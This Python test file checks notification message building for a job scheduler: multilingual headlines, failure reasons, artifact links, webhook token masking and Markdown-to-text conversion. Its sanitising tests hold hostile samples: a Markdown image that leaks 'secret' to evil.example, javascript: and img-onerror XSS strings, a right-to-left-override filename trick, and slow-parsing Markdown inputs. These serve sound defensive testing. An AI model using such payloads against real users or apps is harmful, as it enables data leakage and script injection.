"""Notification messages: content, languages, plain text from Markdown."""

from __future__ import annotations

import string
import subprocess
import sys
from datetime import UTC, datetime
from time import process_time

import pytest

from chimes.i18n import _, in_language
from chimes.model import replace
from chimes.model.notification import Artifact
from chimes.model.recipient import Channel, NotifyOn
from chimes.model.run import Reason, RunStatus, describe_reason
from chimes.model.target import CommandTarget, HttpTarget, TaskTarget
from chimes.notifications import message as message_module
from chimes.notifications.inbox import inbox_item, undelivered
from chimes.notifications.message import (
    CUT,
    MAX_OUTPUT,
    build_message,
    headline,
    language_of,
    plain,
)
from tests.builders import a_run, with_definition
from tests.notifications.attempts import (
    a_delivery_of,
    a_message,
    a_recipient,
    an_attempt,
    an_ended_run,
)

NINE = datetime(2026, 2, 10, 2, 0, tzinfo=UTC)


@pytest.mark.parametrize("language", ["th", "zh"])
def test_every_status_and_reason_has_its_own_text(language: str) -> None:
    ends = [status for status in RunStatus if status.terminal]
    titles = {in_language(headline("x", each, recovered=False), language) for each in ends}
    titles |= {
        in_language(headline("x", None, recovered=False), language),
        in_language(headline("x", None, recovered=True), language),
    }
    assert len(titles) == len(ends) + 2
    codes = [code for name, code in vars(Reason).items() if name.isupper()]
    words = {in_language(describe_reason(code), language) for code in codes}
    assert len(words) == len(codes)
    assert not any(char in string.ascii_letters for text in (*titles, *words) for char in text[2:])


@pytest.mark.parametrize(
    ("tag", "language"), [("zh-Hans-CN", "zh"), ("th_TH", "th"), ("fr", "en"), ("", "en")]
)
def test_language_of_a_tag(tag: str, language: str) -> None:
    assert language_of(tag) == language


# The first line is the same in every language, so that it can be searched.
@pytest.mark.parametrize(
    ("language", "headline", "planned"),
    [
        ("en", "Morning report: succeeded", "Planned for 2026-02-10 09:00 (Asia/Bangkok)"),
        ("th", "Morning report: สำเร็จ", "กำหนดเวลา 2026-02-10 09:00 (Asia/Bangkok)"),
        ("zh", "Morning report：成功", "计划时间 2026-02-10 09:00（Asia/Bangkok）"),
    ],
)
def test_a_message_in_each_language(language: str, headline: str, planned: str) -> None:
    run = an_ended_run("**Two** things:\n\n- one\n- two", slot=NINE, planned_at=NINE)
    message = a_message(run, language=language)
    assert message.text == (
        f"Run {run.id}: succeeded\n{headline}\n{planned}\n\nTwo things:\n\n• one\n• two"
    )
    assert message.title == headline
    assert message.markdown == f"{planned}\n\n**Two** things:\n\n- one\n- two"


def test_failure_has_reason_and_error() -> None:
    run = an_ended_run(
        status=RunStatus.FAILED,
        result=None,
        slot=None,
        error="HTTP 500\r\nInternal",
        reason=Reason.CRASH_LIMIT,
    )
    assert a_message(run).text.splitlines()[1:] == [
        "Morning report: failed",
        "Reason: its nodes crashed too often",
        "Error: HTTP 500 Internal",
    ]
    assert "ข้อผิดพลาด: HTTP 500 Internal" in a_message(run, language="th").text
    assert a_message(replace(run, reason="http_500")).text.splitlines()[2] == "Reason: http_500"


def test_messages_of_missed_slots_and_recoveries() -> None:
    missed = an_ended_run(status=RunStatus.MISSED, missed_count=7, result=None)
    assert "7 slots missed" in a_message(missed).text
    assert a_message(an_ended_run(), notify_on=NotifyOn.RECOVERY).title == (
        "Morning report: recovered"
    )


def test_finish_reason_of_an_incomplete_answer() -> None:
    cut = an_ended_run(result={"text": "half", "finish_reason": "length"})
    assert "Finish reason: length" in a_message(cut).text
    whole = an_ended_run(result={"text": "all", "finish_reason": "stop"})
    assert "Finish reason" not in a_message(whole).text


def test_outputs_of_tasks_and_callbacks_are_not_markdown() -> None:
    task = a_run(
        target=TaskTarget(name="sum"), status=RunStatus.SUCCEEDED, result={"value": {"total": 3}}
    )
    assert a_message(task).text.endswith('{\n  "total": 3\n}')
    assert a_message(task).markdown.endswith('```\n{\n  "total": 3\n}\n```')
    call = a_run(
        target=HttpTarget(url="http://127.0.0.1:1/"),
        status=RunStatus.SUCCEEDED,
        result={"status": 200, "body": "**done** ```x```"},
    )
    assert a_message(call).text.endswith("**done** ```x```")
    command = a_run(
        target=CommandTarget(shell="false"),
        status=RunStatus.FAILED,
        error="the command ended with status 1",
        result={"exit_code": 1, "signal": None, "output": "line 1\n*last* line"},
    )
    assert "the command ended with status 1" in a_message(command).text
    assert a_message(command).text.endswith("line 1\n*last* line")
    assert a_message(call).markdown.endswith("````\n**done** ```x```\n````")
    assert a_message(call).title == "Run: succeeded"


def test_a_run_without_a_schedule_is_named_by_its_prompt() -> None:
    run = an_ended_run(schedule_id=None, schedule_name="")
    assert a_message(run).title == "say something: succeeded"


def test_message_about_a_pruned_run() -> None:
    delivery = a_delivery_of(an_ended_run(), a_recipient())
    message = build_message(delivery, None, language="en", zone="UTC")
    assert message.text.splitlines() == [
        f"Run {delivery.run_id}",
        "Morning report: ended",
        "The run is no longer stored.",
    ]


def test_the_newest_three_artifacts_are_files() -> None:
    made = [{"name": f"{n}.txt", "url": f"http://127.0.0.1:9/{n}"} for n in range(5)]
    message = a_message(an_ended_run(artifacts=[*made, {"name": "no url"}, "nonsense"]))
    assert [file.name for file in message.files] == ["2.txt", "3.txt", "4.txt"]
    assert message.artifacts[0] == Artifact(name="0.txt", url="http://127.0.0.1:9/0")
    assert message.text.endswith("Files:\n0.txt: http://127.0.0.1:9/0\n1.txt: http://127.0.0.1:9/1")


@pytest.mark.parametrize("language", ["th", "zh"])
def test_a_stored_error_is_translated(language: str) -> None:
    error = _("timed out after {seconds:g}s", seconds=30.0)
    run = an_ended_run(status=RunStatus.TIMEOUT, error=error)
    message = a_message(run, language=language)
    translated = in_language(error, language)
    assert translated != error
    assert translated in message.markdown
    assert translated in message.text


def test_a_message_is_built_without_babel() -> None:
    """Importing babel takes half a second."""
    code = (
        "import sys; from tests.notifications.attempts import a_message, an_ended_run; "
        "print(a_message(an_ended_run(error='timed out after 30s'), language='th').text); "
        "assert 'babel' not in sys.modules"
    )
    done = subprocess.run(
        [sys.executable, "-c", code], capture_output=True, text=True, timeout=60, check=False
    )
    assert done.returncode == 0, done.stderr
    assert "Morning report: สำเร็จ" in done.stdout


def test_a_very_long_output_is_cut() -> None:
    message = a_message(an_ended_run("x " * MAX_OUTPUT))
    assert len(message.text) < MAX_OUTPUT + 500
    assert message.text.endswith(CUT)
    assert message.markdown.endswith(CUT)


def test_link_to_the_run() -> None:
    run = an_ended_run()
    text = a_message(run, public_url="https://chimes.example").text
    assert text.endswith(f"Open: https://chimes.example/ui/runs/{run.id}")


def test_control_characters_are_removed() -> None:
    run = an_ended_run("safe\u202egnp.exe\x1b[31m\x00 <b>bold</b>")
    run = with_definition(run, schedule_name="a\u202eb\n<b>_*[]()c</b>")
    message = a_message(run)
    assert message.title == "ab <b>_*[]()c</b>: succeeded"
    assert message.text.endswith("safegnp.exe[31m <b>bold</b>")


@pytest.mark.parametrize(
    ("markdown", "text"),
    [
        ("![pixel](https://evil.example/?q=secret)", "pixel"),
        ("[press](tg://resolve?domain=evil)", "press"),
        ("[press](javascript:alert(1))", "[press](javascript:alert(1))"),
        ("[press](https://example.com/a)", "press (https://example.com/a)"),
        ("<https://example.com/a>", "https://example.com/a"),
        ("<img src=x onerror=alert(1)>", "<img src=x onerror=alert(1)>"),
        ("# One\n\n1. a\n2. **b**\n\n> said", "One\n\n1. a\n2. b\n\n> said"),
        ("| a | b |\n|---|---|\n| 1 | 2 |", "a | b\n1 | 2"),
        ("- a\n  - b", "• a\n  • b"),
        ("~~old~~ `code` *new*\n***\nend", "old code new\n\n———\n\nend"),
        ("```sh\nls *\n```", "ls *"),
    ],
)
def test_markdown_to_plain_text(markdown: str, text: str) -> None:
    assert plain(markdown) == text


def test_deep_nesting_does_not_fail() -> None:
    assert "x" in plain(">" * 5000 + "x")
    assert plain("- " * 3000 + "x")


def test_inbox_item_id_derives_from_the_delivery() -> None:
    attempt = an_attempt(recipient=a_recipient(Channel.INBOX))
    item = inbox_item(attempt)
    assert inbox_item(attempt) == item
    assert item.title == "Morning report: succeeded"
    assert (item.status, item.owner) == ("succeeded", attempt.owner)
    notice = undelivered(attempt, "Forbidden")
    assert notice.id != item.id


def test_undelivered_notice_masks_secrets() -> None:
    recipient = a_recipient(Channel.WEBHOOK, to="https://example.com/h?token=abcdefgh")
    notice = undelivered(an_attempt(recipient=recipient), "HTTP 404")
    assert notice.title == "Not delivered (webhook): Morning report: succeeded"
    assert "https://example.com/h?token=***: HTTP 404" in notice.text
    assert notice.text.endswith("all is well")


# Without limits these inputs took one to twelve seconds each.
@pytest.mark.parametrize(
    "hostile",
    [
        "[" * 60_000,
        "![" * 30_000,
        "![" * 1400,
        "[ a b c d " * 2900,
        ">" * 90 + "a\n" * 2000,
        ">" * 10 + "a\n" * 2900,
        "|a|b|\n|-|-|\n" + "|a|b|\n" * 9000,
        "  - a\n" * 1400,
        "*a " * 20_000,
    ],
    ids=lambda text: f"{text[:4]!r} x {len(text)}",
)
def test_hostile_markdown_is_fast(hostile: str) -> None:
    shown = plain(hostile)
    assert "a" in shown or hostile == shown

    def cost() -> float:
        plain.cache_clear()
        began = process_time()
        plain(hostile)
        return process_time() - began

    # Several tries, because shared cores can be slow now and then.
    assert any(cost() < 1 for _unused in range(3))


def test_deeply_nested_markdown_stays_as_it_is() -> None:
    deep = ">" * 60 + " do not miss this"
    assert plain(deep) == deep


def test_text_is_computed_once_and_not_for_the_inbox(monkeypatch: pytest.MonkeyPatch) -> None:
    parsed: list[str] = []

    def made(text: str) -> str:
        parsed.append(text)
        return "made"

    monkeypatch.setattr(message_module, "_parsed", made)
    plain.cache_clear()
    run = an_ended_run("only *once*")
    inbox_item(an_attempt(run, a_recipient(Channel.INBOX)))
    undelivered(an_attempt(run), "no")
    assert parsed == []
    for channel in (Channel.TELEGRAM, Channel.EMAIL, Channel.TELEGRAM):
        assert an_attempt(run, a_recipient(channel)).message.text.endswith("made")
    assert parsed == ["only *once*"]
    plain.cache_clear()


@pytest.mark.parametrize(
    ("status", "reported"),
    [
        (RunStatus.SUCCEEDED, "completed"),
        (RunStatus.TIMEOUT, "failed"),
        (RunStatus.MISSED, "failed"),
        (RunStatus.CANCELED, "canceled"),
    ],
)
def test_softnix_runs_report_softnix_statuses(status: RunStatus, reported: str) -> None:
    run = an_ended_run(status=status)
    message = a_message(with_definition(run, namespace="softnix"))
    assert message.text.splitlines()[0] == f"Run {run.id}: {reported}"
    assert a_message(run).text.splitlines()[0] == f"Run {run.id}: {status.value}"
    assert message.status == status.value
